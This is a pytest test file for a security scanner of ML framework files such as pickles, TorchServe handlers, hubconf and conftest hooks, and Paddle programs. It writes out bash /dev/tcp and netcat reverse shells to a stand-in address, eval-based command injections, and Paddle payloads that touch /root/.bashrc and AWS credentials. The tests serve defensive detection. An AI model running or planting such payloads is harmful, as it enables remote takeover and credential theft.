"""Files of frameworks: what they carry is blocked for what it does, and they are clean when it does nothing.

The forms of PyTorch's were held against ``torch`` 2.13 and TorchServe 0.12: what is said here to run, they run.
"""

import pickle
import textwrap
from collections.abc import Callable
from functools import partial

import pytest

from scanner.finding import Severity, Verdict
from tests.hostile.scanning import blocked_for, scan
from tests.recipes import frameworks as f
from tests.recipes.payloads import PAYLOADS
from tests.recipes.protobufs import message
from tests.recipes.streams import Call, Global, New, call, stream
from tests.recipes.twins import TWINS

SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"
RUN = stream(call("posix.system", SHELL), 2)
HONEST = stream(call("collections.OrderedDict", [("epoch", 3)]), 2)
PICKLED = [*f.CARRIERS]
FUNCTION = "def handle(data, context):\n{}\n    return data\n"
CLASS = """
class Digits:
    def initialize(self, context):
{}
    def handle(self, data, context):
        return data
"""
DERIVED = """
from ts.torch_handler.base_handler import BaseHandler
class Digits(BaseHandler):
    def initialize(self, context):
        super().initialize(context)
{}
"""
HANDLERS = {
    "function": FUNCTION,
    "class": CLASS,
    "class of TorchServe's": DERIVED,
    "module": "if True:\n{}\n",
}


def handler(form: str, source: str) -> str:
    """TorchServe's ways to a handler, all of which run while it loads one."""
    spaces = 4 if form in ("function", "module") else 8
    return HANDLERS[form].format(textwrap.indent(source.strip(), " " * spaces))


@pytest.mark.parametrize("carrier", PICKLED)
def test_a_poisoned_pickle_is_blocked_for_what_it_does(carrier: str) -> None:
    assert blocked_for(scan(f.CARRIERS[carrier](RUN))) == {"remote-shell"}


@pytest.mark.parametrize("carrier", [name for name in PICKLED if name.startswith("oldest")])
def test_it_is_told_once(carrier: str) -> None:
    report = scan(f.CARRIERS[carrier](RUN))
    assert len({finding.site for finding in report.findings if finding.rule == "remote-shell"}) == 1


@pytest.mark.parametrize("carrier", PICKLED)
def test_an_honest_one_is_no_news(carrier: str) -> None:
    report = scan(f.CARRIERS[carrier](HONEST))
    assert (report.failure, report.findings) == (None, ())


@pytest.mark.parametrize("carrier", PICKLED)
def test_without_its_end_it_is_blocked_all_the_same(carrier: str) -> None:
    """The stream breaks behind its payload; so does the archive."""
    assert blocked_for(scan(f.CARRIERS[carrier](RUN[:-1] + b"\xff\xfe."))) == {"remote-shell"}
    whole = f.CARRIERS[carrier](RUN)
    behind = whole.index(SHELL.encode()) + len(SHELL) + len(b"tR.")
    for cut in (behind, max(behind, len(whole) - 30)):
        assert blocked_for(scan(whole[:cut])) == {"remote-shell"}


@pytest.mark.parametrize("form", HANDLERS)
@pytest.mark.parametrize("behaviour", PAYLOADS)
def test_handlers(form: str, behaviour: str) -> None:
    for shape, source in PAYLOADS[behaviour].items():
        assert behaviour in blocked_for(scan(f.mar(handler(form, source)))), shape
    twin = scan(f.mar(handler(form, TWINS[behaviour])))
    assert [x for x in twin.findings if x.severity > Severity.NOTE] == []


def test_what_a_handler_does_with_requests_is_no_matter_of_loading() -> None:
    source = (
        "class Digits:\n    def preprocess(self, data):\n        "
        + PAYLOADS["remote-shell"]["dev-tcp"].strip()
    )
    assert scan(source.replace("\nos.", "\n        os."), "handler.py").verdict is not Verdict.BLOCKED


@pytest.mark.parametrize("place", ["formula", "guard"])
def test_what_an_exported_program_evaluates(place: str) -> None:
    poisoned = f.exported(**{place: f"__import__('os').system({SHELL!r})"})
    assert blocked_for(scan(poisoned)) == {"remote-shell"}
    honest = {"formula": "Max(1, Symbol('s0', integer=True)//2)", "guard": "L['x'].size()[0] >= 2"}[place]
    assert scan(f.exported(**{place: honest})).findings == ()


def test_a_compiled_program_is_reported() -> None:
    report = scan(f.compiled_program())
    assert {(x.rule, x.site.trail[-1]) for x in report.findings} == {
        ("unscanned-artifact", "digits/data/aotinductor/model/wrapper.so")
    }


@pytest.mark.parametrize("member", ["bytecode.pkl", "constants.pkl", "data.pkl"])
def test_what_must_be_a_pickle_and_is_not_is_reported(member: str) -> None:
    assert scan(f.mobile(member, b"no pickle at all")).verdict is Verdict.REVIEW


@pytest.mark.parametrize(
    "value",
    [
        call("builtins.eval", "__import__('os').system('echo x')", {"data": 1}),
        Call(call("builtins.eval", "data", {"data": Global("posix", "system")}), ("echo x",)),
        Call(call("builtins.eval", "exec", {"data": 1}), ("import os; os.system('echo x')",)),
        call("builtins.eval", "data", New(Global("collections", "UserDict"), ())),
    ],
)
def test_eval_is_a_lookup_only_where_it_can_do_nothing_else(value: object) -> None:
    assert scan(f.paddle(value)).verdict is Verdict.BLOCKED


def test_the_state_of_an_optimizer() -> None:
    state = {"LR_Scheduler": {"last_epoch": 3, "last_lr": 0.1}, "beta1_pow_acc_0": 0.9}
    assert scan(pickle.dumps(state, 2), "digits.pdopt").findings == ()


PADDLE = {"paddle": f.pdmodel, "paddle-pir": f.pir, "nested": partial(f.pir, nested=True)}


@pytest.mark.parametrize("made", PADDLE.values(), ids=PADDLE)
def test_the_files_that_a_paddle_program_names(made: Callable[[str, str], bytes]) -> None:
    hostile = scan(made("save", "/root/.bashrc"), "digits.pdmodel")
    assert {x.rule for x in hostile.findings if x.severity is Severity.ERROR} == {"persistence"}
    for kind in ("load_combine", "read_file"):
        (secret,) = scan(made(kind, "/root/.aws/credentials")).findings
        assert (secret.rule, secret.severity) == ("external-reference", Severity.ERROR)
    for honest in (made("load_combine", "weights/digits"), made("load", "weights/w_0")):
        report = scan(honest)
        assert (report.failure, report.findings) == (None, ())
        assert report.formats[0] in ("paddle", "paddle-pir")


def test_a_paddle_program_of_any_size_is_stepped_through() -> None:
    large = f.pdmodel("save", "/root/.bashrc") + message((99, bytes(17 << 20)))
    assert {x.rule for x in scan(large).findings if x.severity is Severity.ERROR} == {"persistence"}


def test_half_a_paddle_program_is_not_clean() -> None:
    whole = f.pdmodel("save", "/root/.bashrc")
    assert {scan(whole[:cut]).verdict for cut in range(20, len(whole) - 4)} <= {
        Verdict.REVIEW,
        Verdict.BLOCKED,
        Verdict.UNSCANNED,
    }


def test_functions_of_hubconf_run_when_torch_hub_loads() -> None:
    body = "    import os\n    os.system('nc -e /bin/sh 192.0.2.10 4444')\n"
    assert blocked_for(scan(f"def model(pretrained=False):\n{body}", "hubconf.py")) == {"remote-shell"}
    assert scan(f"def _model(pretrained=False):\n{body}", "hubconf.py").verdict is not Verdict.BLOCKED


def test_hooks_of_pytest() -> None:
    body = "    import os\n    os.system('nc -e /bin/sh 192.0.2.10 4444')\n"
    assert blocked_for(scan(f"def pytest_configure(config):\n{body}", "tests/conftest.py")) == {
        "remote-shell"
    }
    assert scan(f"def pytest_configure(config):\n{body}", "plugin.py").verdict is not Verdict.BLOCKED
    assert scan(f"def model(pretrained=False):\n{body}", "models.py").verdict is not Verdict.BLOCKED
